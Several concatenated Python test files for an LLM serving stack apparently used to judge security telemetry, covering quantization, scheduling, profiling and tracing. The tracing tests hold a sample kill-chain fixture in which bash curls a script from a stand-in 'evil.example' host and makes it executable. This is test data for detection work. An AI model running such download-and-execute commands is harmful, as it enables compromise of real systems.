    assert ok, "no request ever completed"
    # JSON-constrained completions must still parse under churn
    for kind, t in results:
        if kind == "ok" and t.startswith(("{", "[", "n", "t", "f", '"')):
            pass  # formatting varies; parse-checked in dedicated tests
    # zero leaks: every slot free, every page back, invariants hold
    assert engine.active_count == 0
    engine.alloc.check_invariants()
    assert engine.alloc.free_pages == CCFG.num_pages


def test_cancel_queued_request_never_occupies_slot():
    sched, engine = _mk_sched()
    sched.start()
    try:
        sched.warmup()
        req = sched.submit("never runs", GenOptions(max_new_tokens=50))
        req.cancel()
        with pytest.raises(RuntimeError, match="cancelled"):
            req.result(timeout=60)
    finally:
        sched.stop()
    assert engine.active_count == 0


def test_http_disconnect_frees_slot():
    """A client that sends /api/generate (non-stream) and slams the
    connection must have its slot reclaimed, not decoded to completion
    (VERDICT r3 weak #6)."""
    from chronos_trn.serving.backends import ModelBackend
    from chronos_trn.serving.server import ChronosServer

    sched, engine = _mk_sched()
    sched.start()
    server = ChronosServer(
        ModelBackend(sched), ServerConfig(host="127.0.0.1", port=0)
    )
    server.start()
    try:
        sched.warmup()
        body = json.dumps(
            {"model": "llama3", "prompt": "long one", "stream": False,
             "options": {"num_predict": 10000}}
        ).encode()
        s = socket.create_connection(("127.0.0.1", server.port), timeout=10)
        s.sendall(
            b"POST /api/generate HTTP/1.1\r\nHost: x\r\n"
            b"Content-Type: application/json\r\n"
            + f"Content-Length: {len(body)}\r\n\r\n".encode()
            + body
        )
        time.sleep(0.3)  # let the request get admitted
        s.close()        # disconnect mid-generation
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and engine.active_count:
            time.sleep(0.1)
        assert engine.active_count == 0, "slot not reclaimed after disconnect"
        engine.alloc.check_invariants()
    finally:
        server.stop()
        sched.stop()
