"""Weight-only int8 quantization invariants (core/quant.py + the
checkpoint-side quantizer + the engine on quantized params).

The exactness contract is MEASURED, not assumed: round-trip error is
bounded by half a scale step per element, the fused quant forward equals
the explicitly-dequantized dense forward to float tolerance (the fusion
only reorders the scale multiply), the embedding gather is BITWISE equal
to gathering a dequantized table, and the offline numpy quantizer is
bit-identical to the on-device one (the reciprocal-multiply scale — see
quant._symmetric_scale — is what makes that hold).
"""
import json

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import model, quant, sampling
from chronos_trn.serving.engine import InferenceEngine

pytestmark = pytest.mark.quant

MCFG = ModelConfig.tiny()  # untied: lm_head quantizes as its own matrix
B = 2
CCFG = CacheConfig.for_slots(B, page_size=8, max_pages_per_seq=16)
PCCFG = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16)
ECFG = EngineConfig(
    max_batch_slots=B, prefill_buckets=(16,), max_new_tokens=32,
    decode_chunk=4,
)
PROMPT = [3, 1, 4, 1, 5, 9, 2, 6]


@pytest.fixture(scope="module")
def dense_params():
    return model.init_params(MCFG, jax.random.PRNGKey(0))


@pytest.fixture(scope="module")
def qparams(dense_params):
    return jax.jit(quant.quantize_params)(dense_params)


def _each_quantized(dense, quantized):
    yield "embed", dense["embed"], quantized["embed"]
    for key in quant.LAYER_MATS:
        yield key, dense["layers"][key], quantized["layers"][key]
    if "lm_head" in dense:
        yield "lm_head", dense["lm_head"], quantized["lm_head"]


def test_roundtrip_error_bounded_per_layer(dense_params, qparams):
    """Symmetric round-to-nearest: every element reconstructs within half
    a scale step (s = amax/127 per output channel / embed row)."""
    for name, w, qw in _each_quantized(dense_params, qparams):
        deq = np.asarray(quant.dequantize(qw), np.float64)
        ref = np.asarray(w, np.float64)
        s = np.asarray(qw.s, np.float64)
        half = s[..., None] / 2 if isinstance(qw, quant.QuantizedEmbedding) \
            else s[..., None, :] / 2
        err = np.abs(deq - ref)
        assert (err <= half + 1e-7).all(), \
            f"{name}: max err {err.max()} exceeds s/2 {half.max()}"
        # int8 payload really is int8 and inside the symmetric range
        assert np.asarray(qw.q).dtype == np.int8
        assert np.abs(np.asarray(qw.q, np.int32)).max() <= 127


def test_quantize_params_idempotent(qparams):
    again = quant.quantize_params(qparams)
    for _, a, b in _each_quantized(again, qparams):
        np.testing.assert_array_equal(np.asarray(a.q), np.asarray(b.q))
        np.testing.assert_array_equal(np.asarray(a.s), np.asarray(b.s))


def test_quant_forward_matches_dequantized_dense(dense_params, qparams):
    """The fused path (int8 matmul + scale epilogue) must equal running
    the DENSE code on explicitly dequantized weights — the fusion only
    moves the per-output-channel multiply across the contraction, so any
    gap beyond float reassociation noise is a wiring bug.  (It is NOT
    compared against the original dense weights: that gap is the
    quantization error itself, bounded per-element above.)"""
    deq = jax.tree.map(
        quant.dequantize, qparams,
        is_leaf=lambda x: isinstance(
            x, (quant.QuantizedLinear, quant.QuantizedEmbedding)),
    )
    tokens = jnp.asarray([PROMPT], jnp.int32)
    out_q = jax.jit(model.forward_train, static_argnums=(1,))(qparams, MCFG, tokens)
    out_d = jax.jit(model.forward_train, static_argnums=(1,))(deq, MCFG, tokens)
    np.testing.assert_allclose(
        np.asarray(out_q), np.asarray(out_d), rtol=1e-5, atol=1e-5)


def test_embed_gather_bitwise_equals_dequantized_table(qparams):
    emb = qparams["embed"]
    toks = jnp.asarray([[5, 0, 511, 7], [1, 1, 2, 3]], jnp.int32)
    fused = quant.embed_lookup(emb, toks)
    table = quant.dequantize(emb)
    np.testing.assert_array_equal(np.asarray(fused), np.asarray(table[toks]))


@pytest.mark.parametrize("dtype", ["float32", "bfloat16"])
def test_host_quantizer_bit_identical_to_device(dtype):
    """checkpoints/quantize.py (numpy, offline) and core/quant.py (jax,
    at-launch) must produce the SAME int8 + scales, or a checkpoint
    quantized offline would serve different logits than --quant int8."""
    from chronos_trn.checkpoints.quantize import quantize_params_host

    params = model.init_params(
        MCFG, jax.random.PRNGKey(3), dtype=jnp.dtype(dtype))
    dev = jax.jit(quant.quantize_params)(params)
    host = quantize_params_host(
        jax.tree.map(np.asarray, params))
    for (name, h, d) in _each_quantized(host, dev):
        np.testing.assert_array_equal(
            np.asarray(h.q), np.asarray(d.q), err_msg=f"{name}.q ({dtype})")
        np.testing.assert_array_equal(
            np.asarray(h.s), np.asarray(d.s), err_msg=f"{name}.s ({dtype})")


def test_save_load_roundtrip(tmp_path, dense_params, qparams):
    from chronos_trn.checkpoints.quantize import load_quantized, save_quantized

    path = str(tmp_path / "tiny-int8.safetensors")
    save_quantized(qparams, path)
    loaded = load_quantized(path)
    for name, a, b in _each_quantized(loaded, qparams):
        np.testing.assert_array_equal(np.asarray(a.q), np.asarray(b.q))
        np.testing.assert_array_equal(np.asarray(a.s), np.asarray(b.s))
    tokens = jnp.asarray([PROMPT], jnp.int32)
    out_a = jax.jit(model.forward_train, static_argnums=(1,))(loaded, MCFG, tokens)
    out_b = jax.jit(model.forward_train, static_argnums=(1,))(qparams, MCFG, tokens)
    np.testing.assert_array_equal(np.asarray(out_a), np.asarray(out_b))


def test_load_quantized_rejects_dense_checkpoint(tmp_path, dense_params):
    from chronos_trn.checkpoints.quantize import load_quantized
    from chronos_trn.checkpoints.safetensors_io import save_safetensors

    path = str(tmp_path / "dense.safetensors")
    save_safetensors(path, {"embed": np.zeros((4, 4), np.float32)})
    with pytest.raises(ValueError, match="not a chronos int8"):
        load_quantized(path)


def test_param_specs_structure_matches_quantized_tree(qparams):
    """The int8 spec tree must be structurally identical to a
    quantize_params output, or to_shardings/device_put misalign leaves."""
    from chronos_trn.parallel import sharding

    specs = sharding.param_specs(MCFG, quant="int8")
    assert jax.tree.structure(specs) == jax.tree.structure(qparams)


def test_param_bytes_counts_q_and_s(dense_params, qparams):
    dense_b = quant.param_bytes(dense_params)
    quant_b = quant.param_bytes(qparams)
    # tiny is f32, so int8 + small scale vectors land near 1/4
    assert quant_b < 0.3 * dense_b, (quant_b, dense_b)
    assert quant.is_quantized(qparams) and not quant.is_quantized(dense_params)


def _greedy(engine, ids, seq_id, n):
    slot = engine.free_slot()
    engine.occupy(slot, seq_id)
    try:
        logits = engine.prefill_seq(seq_id, ids)
        toks = [int(np.argmax(logits))]
        for _ in range(n - 1):
            res = engine.decode({slot: toks[-1]})
            toks.append(int(res[slot][1][0]))
    finally:
        engine.release(seq_id)
    return toks


def test_engine_cache_layouts_agree_on_quant_params(qparams):
    """Greedy decode on quantized params: slot-contiguous pool and paged
    pool must emit the same stream (same invariant the dense engine
    holds — quantization must not perturb either path differently)."""
    slot_major = InferenceEngine(qparams, MCFG, CCFG, ECFG)
    paged = InferenceEngine(qparams, MCFG, PCCFG, ECFG)
    a = _greedy(slot_major, PROMPT, 1, 12)
    b = _greedy(paged, PROMPT, 1, 12)
    assert a == b
    slot_major.alloc.check_invariants()


def test_engine_rebuild_replay_agrees_on_quant_params(qparams):
    """Crash-only rebuild() with quantized params: fresh cache/allocator,
    replayed prompt, identical greedy continuation (the AOT shape paths
    under rebuild must handle the Quantized* pytree containers)."""
    engine = InferenceEngine(qparams, MCFG, CCFG, ECFG)
    before = _greedy(engine, PROMPT, 1, 10)
    engine.rebuild(reason="test")
    after = _greedy(engine, PROMPT, 2, 10)
    assert before == after
    engine.alloc.check_invariants()


def test_engine_sanitize_on_quant_params(monkeypatch, qparams):
    """CHRONOS_SANITIZE=1 shadow-ownership checks stay green with the
    quantized param tree through occupy/prefill/decode/release."""
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    engine = InferenceEngine(qparams, MCFG, CCFG, ECFG)
    toks = _greedy(engine, PROMPT, 9, 8)
    assert len(toks) == 8
    engine.alloc.check_invariants()


def test_resolve_quant_env_override():
    from chronos_trn.serving.launch import resolve_quant

    assert resolve_quant("none", None) == "none"      # no env: CLI wins
    assert resolve_quant("int8", None) == "int8"
    assert resolve_quant("none", "int8") == "int8"    # env enables
    assert resolve_quant("none", "1") == "int8"
    for off in ("", "0", "false", "no", "off", "none"):
        assert resolve_quant("int8", off) == "none"   # env rollback wins


def test_topk_grouped_inf_logits_grouped_branch():
    """REGRESSION guard on the GROUPED branch (V >= groups*k — smaller
    vocabs short-circuit to flat lax.top_k and never exercise the pad
    columns): all--inf rows must still return in-vocab indices, and
    finite rows must match flat top_k exactly."""
    V, k, groups = 4096, 8, 32
    assert V >= groups * k  # really the grouped branch
    rng = np.random.default_rng(7)
    logits = np.full((3, V), -np.inf, np.float32)
    logits[1, [5, 900, 4095]] = [1.0, 3.0, 2.0]
    logits[2] = rng.standard_normal(V).astype(np.float32)
    vals, idx = jax.jit(
        sampling.topk_grouped, static_argnums=(1, 2)
    )(jnp.asarray(logits), k, groups)
    idx = np.asarray(idx)
    assert ((idx >= 0) & (idx < V)).all()
    fvals, fidx = jax.lax.top_k(jnp.asarray(logits[2]), k)
    np.testing.assert_array_equal(idx[2], np.asarray(fidx))
    assert idx[1, :3].tolist() == [900, 4095, 5]


def test_bench_quant_verdict_parser():
    """bench.py's verdict-parity parser: strict JSON, partial-output
    regex fallback, and garbage."""
    import bench

    assert bench._parse_verdict_fields(
        json.dumps({"risk_score": 90, "verdict": "MALICIOUS"})
    ) == (90, "MALICIOUS")
    assert bench._parse_verdict_fields(
        '{"risk_score": 12, "verdict": "BENIGN", "reason": "trunc'
    ) == (12, "BENIGN")
    assert bench._parse_verdict_fields("not json at all") == (None, None)
