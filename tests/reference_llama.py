"""Independent numpy Llama-3 oracle for numerics tests.

Deliberately written against the HF Llama semantics (rotate-half RoPE,
GQA, SwiGLU, RMSNorm) with *no shared code* with chronos_trn so a bug in
the JAX model cannot cancel out in the comparison (SURVEY.md §4c
golden-logit strategy; HF transformers is not in this image, so the
oracle is this standalone float64 implementation).
"""
import numpy as np


def np_rmsnorm(x, w, eps):
    x = x.astype(np.float64)
    return (x / np.sqrt((x * x).mean(-1, keepdims=True) + eps)) * w


def np_rope(x, pos, theta):
    # x: [T, H, Dh]; rotate-half convention
    T, H, Dh = x.shape
    half = Dh // 2
    inv = 1.0 / theta ** (np.arange(0, Dh, 2, dtype=np.float64) / Dh)
    ang = pos[:, None].astype(np.float64) * inv  # [T, half]
    cos = np.concatenate([np.cos(ang), np.cos(ang)], -1)[:, None, :]
    sin = np.concatenate([np.sin(ang), np.sin(ang)], -1)[:, None, :]
    rot = np.concatenate([-x[..., half:], x[..., :half]], -1)
    return x * cos + rot * sin


def np_forward(params, cfg, tokens):
    """tokens: [T] -> logits [T, vocab], float64 throughout."""
    p = {k: np.asarray(v, np.float64) for k, v in params.items() if k != "layers"}
    lps = {k: np.asarray(v, np.float64) for k, v in params["layers"].items()}
    T = len(tokens)
    pos = np.arange(T)
    x = p["embed"][tokens]
    H, KV, Dh = cfg.n_heads, cfg.n_kv_heads, cfg.head_dim
    G = H // KV
    causal = np.tril(np.ones((T, T), bool))
    for l in range(cfg.n_layers):
        h = np_rmsnorm(x, lps["attn_norm"][l], cfg.rms_eps)
        q = (h @ lps["wq"][l]).reshape(T, H, Dh)
        k = (h @ lps["wk"][l]).reshape(T, KV, Dh)
        v = (h @ lps["wv"][l]).reshape(T, KV, Dh)
        q = np_rope(q, pos, cfg.rope_theta)
        k = np_rope(k, pos, cfg.rope_theta)
        out = np.zeros((T, H, Dh))
        for head in range(H):
            kvh = head // G
            s = q[:, head] @ k[:, kvh].T / np.sqrt(Dh)
            s = np.where(causal, s, -np.inf)
            s = s - s.max(-1, keepdims=True)
            w = np.exp(s)
            w /= w.sum(-1, keepdims=True)
            out[:, head] = w @ v[:, kvh]
        x = x + out.reshape(T, H * Dh) @ lps["wo"][l]
        h = np_rmsnorm(x, lps["mlp_norm"][l], cfg.rms_eps)
        g = h @ lps["w_gate"][l]
        silu = g / (1.0 + np.exp(-g))
        x = x + (silu * (h @ lps["w_up"][l])) @ lps["w_down"][l]
    x = np_rmsnorm(x, p["final_norm"], cfg.rms_eps)
    head_w = p.get("lm_head", p["embed"].T)
    return x @ head_w
