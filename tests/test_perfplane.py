"""Hot-path performance introspection plane (obs/perf.py) acceptance.

Five claims, each load-bearing for the /debug/perf surface:

* fence confinement — ``begin()`` returns None on unsampled dispatches
  and the engine makes ZERO device syncs on those steps (spied at both
  the ``_Sample.fence`` and ``jax.block_until_ready`` layers);
* compile ledger — first sighting of an (entry, bucket-key) pair is a
  compile event, warm calls are not, and an injected cold bucket shows
  up at /debug/compiles;
* roofline join — /debug/perf carries an achieved-vs-roofline row for
  every ops/registry entry, with the analytical bound and the measured
  microbench time joined in one row;
* Perfetto export — the profiler snapshot renders as "ph": "C" counter
  tracks that scripts/export_trace.py appends next to the span slices;
* federation — /fleet/perf returns one /debug/perf document per
  replica, scraped over the wire.
"""
import json
import urllib.request

import jax
import numpy as np
import pytest

from chronos_trn.config import (
    CacheConfig,
    EngineConfig,
    FleetConfig,
    ModelConfig,
    ServerConfig,
)
from chronos_trn.core import model
from chronos_trn.fleet.pool import ReplicaPool
from chronos_trn.fleet.router import FleetRouter
from chronos_trn.obs import perf as perf_lib
from chronos_trn.obs.perf import (
    COMPILES,
    PROFILER,
    CompileLedger,
    StepProfiler,
    counter_events,
    op_roofline_table,
    perf_document,
    render_op_table,
    sample_every_from_env,
)
from chronos_trn.serving.backends import HeuristicBackend
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.server import ChronosServer

pytestmark = pytest.mark.obs

MCFG = ModelConfig.tiny()
CCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
ECFG = EngineConfig(max_batch_slots=4, prefill_buckets=(16, 32, 64),
                    max_new_tokens=32)


@pytest.fixture(scope="module")
def engine():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    return InferenceEngine(params, MCFG, CCFG, ECFG)


@pytest.fixture()
def clean_profiler():
    """Run a test against the global profiler/ledger, restoring the
    pre-test cadence afterwards (other tests assume the default)."""
    was = PROFILER.sample_every
    PROFILER.reset()
    COMPILES.reset()
    yield PROFILER
    PROFILER.set_sample(was)
    PROFILER.reset()
    COMPILES.reset()


# ---------------------------------------------------------------------------
# sampled-fence confinement
# ---------------------------------------------------------------------------
def test_begin_cadence_first_then_every_nth():
    prof = StepProfiler(sample_every=4)
    hits = [prof.begin("decode") is not None for _ in range(9)]
    assert hits == [True, False, False, False,
                    True, False, False, False, True]
    # phases count independently
    assert prof.begin("prefill") is not None


def test_begin_disabled_never_samples_and_skips_bookkeeping():
    prof = StepProfiler(sample_every=0)
    assert all(prof.begin("decode", tokens=8) is None for _ in range(16))
    snap = prof.snapshot()
    assert snap["sample_every"] == 0
    assert snap["phases"] == {}  # off means OFF: no counters either


def test_unsampled_engine_steps_make_zero_sync_calls(
        engine, clean_profiler, monkeypatch):
    """The acceptance wording: the fence is strictly confined to
    sampled steps.  Spy on jax.block_until_ready itself — with the
    profiler disabled an engine decode step must never sync; with
    cadence N only the first-of-N dispatch does."""
    logits = engine.prefill_seq(7101, [1, 2, 3, 4, 5])
    slot = engine.free_slot()
    engine.occupy(slot, 7101)
    tok = int(np.argmax(jax.device_get(logits)))

    real = jax.block_until_ready
    calls = []

    def spy(x):
        calls.append(type(x).__name__)
        return real(x)

    monkeypatch.setattr(jax, "block_until_ready", spy)
    try:
        clean_profiler.set_sample(0)
        for _ in range(4):
            engine.decode({slot: tok})
        assert calls == [], "disabled profiler must never fence"

        clean_profiler.set_sample(1_000_000)
        clean_profiler.reset()
        fences = []
        orig_fence = perf_lib._Sample.fence

        def fence_spy(self, outputs):
            fences.append(self.phase)
            return orig_fence(self, outputs)

        monkeypatch.setattr(perf_lib._Sample, "fence", fence_spy)
        for _ in range(6):
            engine.decode({slot: tok})
        # dispatch #1 is the phase's first → sampled; #2..#6 are not
        assert fences == ["decode"]
        assert len(calls) == 1
        snap = clean_profiler.snapshot()
        assert snap["phases"]["decode"]["dispatches"] == 6
        assert snap["phases"]["decode"]["samples"] == 1
        assert "device_ms" in snap["phases"]["decode"]
    finally:
        engine.release(7101)


def test_sample_records_host_dispatch_device_split():
    prof = StepProfiler(sample_every=1)
    samp = prof.begin("decode", tokens=16)
    assert samp is not None
    samp.mark_host()
    samp.fence((np.zeros(4),))  # pytree of host arrays: sync is a no-op
    snap = prof.snapshot()
    row = snap["phases"]["decode"]
    assert row["samples"] == 1
    for key in ("host_build_ms", "dispatch_ms", "device_ms"):
        assert row[key]["p50"] >= 0.0
        assert row[key]["p99"] >= row[key]["p50"] - 1e-9
    assert row["tokens_per_s"] > 0
    assert row["dispatch_queue_depth"] == 0.0


def test_note_tokens_feeds_throughput_window():
    prof = StepProfiler(sample_every=1)
    samp = prof.begin("decode")  # fused decode: count unknown at begin
    prof.note_tokens("decode", 64)
    samp.mark_host()
    samp.fence(())
    assert prof.snapshot()["phases"]["decode"]["tokens_per_s"] > 0


def test_sample_every_from_env(monkeypatch):
    monkeypatch.delenv("CHRONOS_PROFILE", raising=False)
    assert sample_every_from_env() == perf_lib.DEFAULT_SAMPLE_EVERY
    monkeypatch.setenv("CHRONOS_PROFILE", "16")
    assert sample_every_from_env() == 16
    monkeypatch.setenv("CHRONOS_PROFILE", "0")
    assert sample_every_from_env() == 0
    monkeypatch.setenv("CHRONOS_PROFILE", "nope")
    assert sample_every_from_env() == perf_lib.DEFAULT_SAMPLE_EVERY


# ---------------------------------------------------------------------------
# compile-event ledger
# ---------------------------------------------------------------------------
def test_compile_ledger_first_call_vs_warm():
    led = CompileLedger()
    assert led.observe("prefill", (32, False), 1.25) is True
    assert led.observe("prefill", (32, False), 0.002) is False
    assert led.observe("prefill", (32, False), 0.003) is False
    assert led.observe("prefill", (64, False), 0.9) is True  # new bucket
    snap = led.snapshot()
    assert snap["total_events"] == 2
    by_key = {e["key"]: e for e in snap["entries"]}
    row = by_key[repr((32, False))]
    assert row["first_call_s"] == 1.25
    assert row["warm_calls"] == 2
    assert row["warm_mean_s"] == pytest.approx(0.0025, rel=1e-3)
    kinds = [e["kind"] for e in snap["events"]]
    assert kinds == ["first_call", "first_call"]


def test_compile_ledger_aot_is_always_an_event():
    led = CompileLedger()
    led.record_aot("decode_fused", ("aot", True), 3.0)
    snap = led.snapshot()
    assert snap["total_events"] == 1
    assert snap["events"][0]["kind"] == "aot"
    # the AOT compile pre-warms the pair: the serving-path call is warm
    assert led.observe("decode_fused", ("aot", True), 0.001) is False


def test_injected_cold_bucket_shows_at_debug_compiles(
        engine, clean_profiler):
    """e2e acceptance: compiles are zero once warm, and an injected
    cold bucket surfaces as exactly one new event at /debug/compiles
    (served here by a live HTTP server reading the global ledger)."""
    engine.prefill_seq(7201, [1, 2, 3])  # bucket 16: the warmup
    engine.release(7201)
    warm = COMPILES.snapshot()["total_events"]
    engine.prefill_seq(7202, [1, 2, 3, 4])  # same bucket: warm call
    engine.release(7202)
    assert COMPILES.snapshot()["total_events"] == warm

    # inject a cold bucket: a prompt long enough to leave bucket 16
    engine.prefill_seq(7203, list(range(2, 25)))
    engine.release(7203)
    assert COMPILES.snapshot()["total_events"] == warm + 1

    server = ChronosServer(HeuristicBackend(),
                           ServerConfig(host="127.0.0.1", port=0))
    server.start()
    try:
        doc = json.loads(urllib.request.urlopen(
            f"http://127.0.0.1:{server.port}/debug/compiles",
            timeout=5).read())
    finally:
        server.stop()
    assert doc["total_events"] == warm + 1
    assert any(e["entry"] == "prefill" and "32" in e["key"]
               for e in doc["events"])


# ---------------------------------------------------------------------------
# per-op roofline attribution
# ---------------------------------------------------------------------------
def test_roofline_table_joins_all_registry_ops(engine):
    from chronos_trn.ops import registry

    table = op_roofline_table(engine)
    assert table["bass_enabled"] == registry.bass_enabled()
    assert table["chip_hbm_bps"] > 0 and table["chip_peak_flops_bf16"] > 0
    ops = {r["op"]: r for r in table["ops"]}
    assert set(ops) == {"quant_matmul", "quant_tied_head",
                        "flash_attention", "paged_attention", "rmsnorm"}
    for name, row in ops.items():
        assert row["bound"] in ("memory", "compute"), name
        assert row["roofline_s"] > 0, name
        assert row["measured_s"] > 0, name  # cpu twin must measure
        assert row["roofline_frac"] > 0, name
        assert row["roofline_frac"] == pytest.approx(
            row["roofline_s"] / row["measured_s"], rel=0.05), name
        assert row["intensity_flops_per_byte"] > 0, name
        # cpu run: nothing executes on the NeuronCore
        assert row["device_frac"] == 0.0, name
    # sorted worst-first: the measured tuning queue
    fracs = [r["roofline_frac"] for r in table["ops"]]
    assert fracs == sorted(fracs)
    # projection GEMMs at decode batch are memory-bound on trn2
    assert ops["quant_matmul"]["bound"] == "memory"

    rendered = render_op_table(table)
    assert "roofline%" in rendered
    assert all(name in rendered for name in ops)


def test_perf_document_has_all_three_blocks(engine, clean_profiler):
    doc = perf_document(engine)
    assert set(doc) == {"profiler", "roofline", "compiles"}
    assert "sample_every" in doc["profiler"]
    assert len(doc["roofline"]["ops"]) == 5
    assert doc["compiles"]["total_events"] == 0
    json.dumps(doc)  # the /debug/perf body must be JSON-serializable


# ---------------------------------------------------------------------------
# Perfetto counter tracks
# ---------------------------------------------------------------------------
def test_counter_events_render_profiler_snapshot():
    prof = StepProfiler(sample_every=1)
    for phase in ("decode", "prefill"):
        samp = prof.begin(phase, tokens=8)
        samp.mark_host()
        samp.fence(())
    events = counter_events(prof.snapshot(), ts_us=123.0)
    assert events and all(e["ph"] == "C" for e in events)
    assert all(e["ts"] == 123.0 for e in events)
    names = {e["name"] for e in events}
    assert {"perf.decode", "perf.prefill",
            "perf.decode.tokens_per_s"} <= names
    tracks = set()
    for e in events:
        tracks.update(e["args"])
    assert {"host_build_ms_p50", "dispatch_ms_p50", "device_ms_p50",
            "tokens_per_s"} <= tracks


def test_counter_events_empty_snapshot_is_empty():
    assert counter_events({}) == []
    assert counter_events({"phases": {}}) == []


# ---------------------------------------------------------------------------
# /fleet/perf federation
# ---------------------------------------------------------------------------
def test_fleet_perf_scrapes_every_replica(clean_profiler):
    fcfg = FleetConfig(probe_interval_s=0.0, request_timeout_s=10.0)
    pool = ReplicaPool.heuristic(2).start()
    router = FleetRouter(
        pool.remote_backends(fcfg), fleet_cfg=fcfg,
        server_cfg=ServerConfig(host="127.0.0.1", port=0),
    ).start()
    try:
        doc = json.loads(urllib.request.urlopen(
            f"http://127.0.0.1:{router.port}/fleet/perf",
            timeout=10).read())
    finally:
        router.stop()
        pool.stop()
    replicas = doc["replicas"]
    assert len(replicas) == 2
    for name, rep in replicas.items():
        assert "error" not in rep, (name, rep)
        # heuristic replicas have no engine: profiler + compile blocks
        assert "profiler" in rep and "compiles" in rep
        assert "sample_every" in rep["profiler"]
