"""Observability: span tracing, traceparent propagation, exposition.

Three layers of coverage (ISSUE: PR 4 observability):

* unit — the trace primitives (ids, ring bound, context manager,
  Chrome-trace export, stage breakdown) and the labeled metrics
  registry (sliding-window rate, exposition grammar);
* wire — traceparent headers across the sensor->brain hop, including a
  retry resend (same trace_id, NEW span id) and a spool-drain resend
  reusing the id the chain was first analyzed under;
* full stack — a tiny-model scheduler behind the real HTTP server,
  driven by the real AnalysisClient: one verdict's whole life
  (sensor.analyze -> sensor.post -> server.generate -> queue wait ->
  admission -> prefill with prefix-cache attrs -> decode steps ->
  finish) must land in ONE trace, nest correctly, split TTFT by the
  cache label, and show its trace_id in a structlog line.
"""
import json
import logging
import math
import re

import jax
import pytest
import requests

from chronos_trn.config import (
    CacheConfig,
    DegradeConfig,
    EngineConfig,
    ModelConfig,
    SensorConfig,
    ServerConfig,
)
from chronos_trn.core import model
from chronos_trn.sensor.client import AnalysisClient, KillChainMonitor
from chronos_trn.sensor.resilience import CircuitBreaker
from chronos_trn.serving.backends import ModelBackend
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import Scheduler
from chronos_trn.serving.server import ChronosServer
from chronos_trn.testing.faults import (
    CONNECT_REFUSED,
    HTTP_500,
    OK,
    Fault,
    FaultPlan,
    FaultTransport,
    FaultyBrainServer,
)
from chronos_trn.tokenizer.bpe import ByteTokenizer
from chronos_trn.utils import trace as trace_lib
from chronos_trn.utils.metrics import Metrics
from chronos_trn.utils.structlog import JsonFormatter, get_logger, log_event
from chronos_trn.utils.trace import (
    GLOBAL as TRACER,
    TRACEPARENT_HEADER,
    Tracer,
    format_traceparent,
    parse_traceparent,
)

pytestmark = pytest.mark.obs

_NOSLEEP = lambda s: None  # noqa: E731

_CHAIN = [
    "[EXEC] bash -> curl http://evil.example/x.sh",
    "[EXEC] bash -> chmod +x /tmp/x.sh",
    "[OPEN] cat -> /tmp/x.sh",
]


# ---------------------------------------------------------------------------
# unit: trace primitives
# ---------------------------------------------------------------------------
def test_traceparent_roundtrip_and_rejects():
    t = Tracer(capacity=16)
    span = t.start_span("x")
    hdr = format_traceparent(span.ctx)
    ctx = parse_traceparent(hdr)
    assert ctx is not None
    assert ctx.trace_id == span.trace_id and ctx.span_id == span.span_id
    # malformed / absent / all-zero ids must parse to None, never raise
    assert parse_traceparent(None) is None
    assert parse_traceparent("") is None
    assert parse_traceparent("not a header") is None
    assert parse_traceparent("00-zz-zz-01") is None
    assert parse_traceparent("00-" + "0" * 32 + "-" + "1" * 16 + "-01") is None
    assert parse_traceparent("00-" + "1" * 32 + "-" + "0" * 16 + "-01") is None
    # case/whitespace tolerant on valid input
    assert parse_traceparent("  " + hdr.upper() + "  ") == ctx


def test_span_ring_bounded_under_10k_spans():
    t = Tracer(capacity=256)
    for i in range(10_000):
        t.record("s", "a" * 32, None, float(i), float(i) + 0.5,
                 attrs={"i": i})
    assert len(t) == 256
    assert t.dropped == 10_000 - 256
    spans = t.spans()
    assert len(spans) == 256
    # ring keeps the NEWEST spans
    assert spans[-1]["attrs"]["i"] == 9999
    assert spans[0]["attrs"]["i"] == 10_000 - 256
    # shrink keeps newest-that-fit
    t.set_capacity(10)
    assert len(t) == 10
    assert t.spans()[-1]["attrs"]["i"] == 9999


def test_span_context_manager_sets_trace_id_contextvar():
    t = Tracer(capacity=16)
    assert trace_lib.current_trace_id() is None
    with t.start_span("outer") as outer:
        assert trace_lib.current_trace_id() == outer.trace_id
        with t.start_span("inner", parent=outer.ctx) as inner:
            assert inner.trace_id == outer.trace_id
            assert inner.parent_id == outer.span_id
    assert trace_lib.current_trace_id() is None
    spans = t.spans(trace_id=outer.trace_id)
    assert [s["name"] for s in spans] == ["inner", "outer"]
    # inner nests strictly inside outer
    i, o = spans[0], spans[1]
    assert o["start"] <= i["start"] and i["end"] <= o["end"]


def test_span_exception_sets_error_attr():
    t = Tracer(capacity=16)
    with pytest.raises(ValueError):
        with t.start_span("boom"):
            raise ValueError("nope")
    (s,) = t.spans()
    assert s["attrs"]["error"] == "ValueError"
    assert s["end"] is not None


def test_disabled_tracer_records_nothing_but_propagates():
    t = Tracer(capacity=16, enabled=False)
    with t.start_span("x") as span:
        assert trace_lib.current_trace_id() == span.trace_id
        hdr = format_traceparent(span.ctx)
    assert parse_traceparent(hdr) is not None
    assert len(t) == 0 and t.dropped == 0


def test_traces_summary_and_chrome_export(tmp_path):
    t = Tracer(capacity=64)
    with t.start_span("root", attrs={"k": "v"}) as root:
        t.record("child", root.trace_id, root.span_id, root.start,
                 root.start + 0.01)
    summaries = t.traces()
    assert summaries[0]["trace_id"] == root.trace_id
    assert summaries[0]["spans"] == 2
    assert summaries[0]["root"] == "root"
    doc = trace_lib.to_chrome_trace(t.spans())
    assert {e["name"] for e in doc["traceEvents"]} == {"root", "child"}
    for e in doc["traceEvents"]:
        assert e["ph"] == "X" and e["dur"] >= 0
    path = tmp_path / "trace.json"
    n = trace_lib.dump_chrome_trace(str(path), t.spans())
    assert n == 2
    loaded = json.loads(path.read_text())
    assert len(loaded["traceEvents"]) == 2


def test_stage_breakdown_table():
    t = Tracer(capacity=64)
    for i in range(10):
        t.record("fast", "f" * 32, None, 0.0, 0.001 * (i + 1))
        t.record("slow", "f" * 32, None, 0.0, 0.1 * (i + 1))
    bd = trace_lib.stage_breakdown(t.spans())
    assert bd["fast"]["count"] == 10
